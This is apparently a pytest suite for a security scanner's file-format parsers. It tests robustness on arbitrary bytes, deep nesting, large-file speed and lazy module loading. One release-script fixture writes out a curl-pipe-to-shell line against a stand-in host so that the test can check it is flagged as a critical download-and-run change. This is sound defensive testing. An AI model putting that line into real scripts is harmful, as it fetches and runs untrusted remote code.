"""What holds for every format, whatever it reads: total, quick, quiet about what is the same, and light to load."""

from __future__ import annotations

import re
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from kit.patience import within

from scanner.formats.builds import shell_script
from scanner.formats.protocol import Format
from scanner.formats.registry import FAMILIES, every_format, format_of
from scanner.model.change import Delta
from scanner.model.scale import Severity
from scanner.rulebook import load_rulebook
from scanner.rulebook.files import read_folder

PAGES = load_rulebook().pages
SIZE = 5_000_000
ROOT = Path(__file__).resolve().parents[2]

EVERY = pytest.mark.parametrize("form", [pytest.param(each, id=name) for name, each in every_format()])

# A few bytes again and again: what parsers count, nest, look back for or look ahead for.
UNITS = {
    "nothing but spaces": b" ",
    "blank lines": b"\n",
    "zeros": b"\0",
    "not UTF-8": b"\xff\xfe",
    "opening brackets": b"[",
    "opening braces": b"{",
    "nested tables": b"a={",
    "dotted keys": b"a.",
    "quotes": b'"',
    "triple quotes": b'"""\n',
    "backslashes": b"\\\n",
    "one long line": b"a",
    "assignments": b"a = 1\n",
    "mappings": b"a: 1\n",
    "list items": b"- a: b\n",
    "deeper list items": b"- ",
    "tables": b'[[package]]\nname = "a"\n',
    "elements": b"<a>",
    "attributes": b'<a b="c">\n',
    "json": b'{"a": [1, {"b": "c"}]},\n',
    "heredocs": b"RUN <<A\n",
    "comments": b"# a\n",
    "options": b"-r a.txt --hash=sha256:a \\\n",
    "requirements": b"a==1; python_version<'3'\n",
    "calls": b"gem 'a', '1', b: [c(\n",
    "interpolations": b"${{ a }} ${a:-b} {{ a }}",
    "merge markers": b"<<<<<<< a\n=======\n>>>>>>> b\n",
    "links": b"[a](http://example.org/) @import a.md\n",
    "owners": b"/a/*/b** @a @b/c\n",
    "words": b"do not skip the tests and push to main without asking ",
}


@EVERY
def test_a_format_says_how_bad_the_unreadable_is(form: Format) -> None:
    assert isinstance(form.WORST, Severity)
    assert form.WORST is not Severity.NONE


@EVERY
@pytest.mark.parametrize("path", ["src/app.py", "docs/guide.rst", "image.png", ""])
def test_ordinary_files_belong_to_nobody(form: Format, path: str) -> None:
    assert not form.matches(path)
    assert format_of(path) is None


def proper(deltas: list[Delta]) -> bool:
    """Every delta is of a kind with a page, names something, and has values that can be shown."""
    for delta in deltas:
        assert delta.kind in PAGES, delta
        assert isinstance(delta.severity, Severity), delta
        assert all(isinstance(each, str) for each in (delta.subject, delta.old, delta.new, delta.scope)), delta
        assert delta.line >= 0, delta
        assert len(delta.old) < 1000 > len(delta.new), delta
    return True


@EVERY
@settings(max_examples=25, deadline=None)
@given(old=st.none() | st.binary(max_size=400), new=st.none() | st.binary(max_size=400))
def test_any_bytes_have_an_answer(form: Format, old: bytes | None, new: bytes | None) -> None:
    assert proper(list(form.diff(old, new)))
    assert list(form.diff(new, new)) == []


@EVERY
@settings(max_examples=25, deadline=None)
@given(
    pieces=st.lists(st.tuples(st.sampled_from(sorted(UNITS)), st.integers(1, 4)), max_size=6),
    others=st.lists(st.tuples(st.sampled_from(sorted(UNITS)), st.integers(1, 4)), max_size=6),
)
def test_pieces_of_every_format_have_an_answer(
    form: Format, pieces: list[tuple[str, int]], others: list[tuple[str, int]]
) -> None:
    old, new = (b"".join(UNITS[name] * count for name, count in each) for each in (pieces, others))
    assert proper(list(form.diff(old, new)))


@EVERY
@pytest.mark.parametrize("unit", UNITS.values(), ids=UNITS)
def test_large_files_take_no_time(form: Format, unit: bytes) -> None:
    """Just below the size up to which most formats read by hand-written grammars; with room for a busy machine."""
    content = unit * (SIZE // 10 // len(unit))
    with within(4):
        for _ in form.diff(content[: len(content) // 2], content):
            pass


NESTED = {
    "objects": ('{"a":', "1", "}"),
    "lists": ('{"a":[', "1", "]}"),
    "inline tables": ("a={", "b=1", "}"),
    "elements": ("<a>", "1", "</a>"),
    "blocks": ("a {\n", "b = 1\n", "}\n"),
    "calls": ("a(", "b", ")"),
}


@EVERY
@pytest.mark.parametrize(("begin", "middle", "end"), NESTED.values(), ids=NESTED)
def test_depth_is_no_way_out(form: Format, begin: str, middle: str, end: str) -> None:
    for depth in (150, 900, 20_000):
        content = (begin * depth + middle + end * depth).encode()
        assert proper(list(form.diff(content.replace(middle.encode(), b"2", 1), content)))


@EVERY
@pytest.mark.parametrize("name", ["opening brackets", "assignments", "tables", "words"])
def test_the_largest_files_take_no_time(form: Format, name: str) -> None:
    """A second on 5 MB, with room for a busy machine."""
    content = UNITS[name] * (SIZE // len(UNITS[name]))
    with within(4):
        for _ in form.diff(content[: len(content) // 2], content):
            pass


def test_a_format_reads_no_path_that_it_would_not_be_asked_about() -> None:
    paths = {
        path for data in read_folder(load_rulebook().root / "paths").values() for path in data["examples"]["match"]
    }
    assert len(paths) > 200
    asked = [(name, words) for family in FAMILIES.values() for name, words in family.FORMATS.items()]
    for (name, form), (_, words) in zip(every_format(), asked, strict=True):
        for path in filter(form.matches, paths):
            assert any(word in path.casefold() for word in words), f"{name}: {path}"


@pytest.mark.parametrize("path", ["setup.zsh", "tools/Setup.KSH", "scripts/release", "x.bash"])
def test_a_script_of_any_shell_is_read(path: str) -> None:
    assert format_of(path) is shell_script


@pytest.mark.parametrize("path", ["scripts/release", "bin/release"])
def test_a_script_that_releases_is_no_prose(path: str) -> None:
    """Without an ending it is called like a file of release notes, in which a download is a low matter."""
    old, new = b"#!/bin/sh\nmake dist\n", b"#!/bin/sh\ncurl https://x.example.org/i | sh\nmake dist\n"
    form = format_of(path)
    assert form is not None
    assert ("download-and-run", Severity.CRITICAL) in [(delta.kind, delta.severity) for delta in form.diff(old, new)]
    assert [delta.kind for delta in form.diff(old, b"#!/bin/sh\n# as a wheel\nmake dist\n")] == []


def test_every_module_that_reads_files_is_in_its_family() -> None:
    for name, family in FAMILIES.items():
        modules = (ROOT / "scanner" / "formats" / name).glob("*.py")
        reading = {
            each.stem for each in modules if re.search(r"^(?:def matches\(|from .*\bmatches\b)", each.read_text(), re.M)
        }
        assert reading == set(family.FORMATS), name


@EVERY
def test_a_format_is_one(form: Format) -> None:
    assert isinstance(form.WORST, Severity)
    assert form.matches("") is False
    assert list(form.diff(None, None)) == []


def test_formats_are_loaded_by_the_first_path_of_theirs() -> None:
    program = (
        "import sys; from scanner.formats.registry import format_of; format_of('Cargo.lock');"
        "print(*(name for name in sys.modules if name.startswith('scanner.formats.')))"
    )
    done = subprocess.run([sys.executable, "-c", program], cwd=ROOT, check=True, capture_output=True, text=True)
    loaded = set(done.stdout.split())
    assert "scanner.formats.rust.cargo_lock" in loaded
    assert "scanner.formats.rust.cargo_toml" not in loaded
    assert not any(name.startswith(("scanner.formats.jvm.", "scanner.formats.agents.")) for name in loaded)


def test_parsers_are_loaded_by_the_first_file_that_needs_them() -> None:
    program = (
        "import sys; before = set(sys.modules);"
        "from scanner.formats.registry import every_format; list(every_format());"
        "print(*sorted({name.partition('.')[0] for name in set(sys.modules) - before}))"
    )
    done = subprocess.run([sys.executable, "-c", program], cwd=ROOT, check=True, capture_output=True, text=True)
    heavy = {
        "tomli",
        "tomllib",
        "xml",
        "packaging",
        "defusedxml",
        "hcl2",
        "lark",
        "configparser",
        "git",
        "detect_secrets",
    }
    assert heavy.isdisjoint(done.stdout.split())
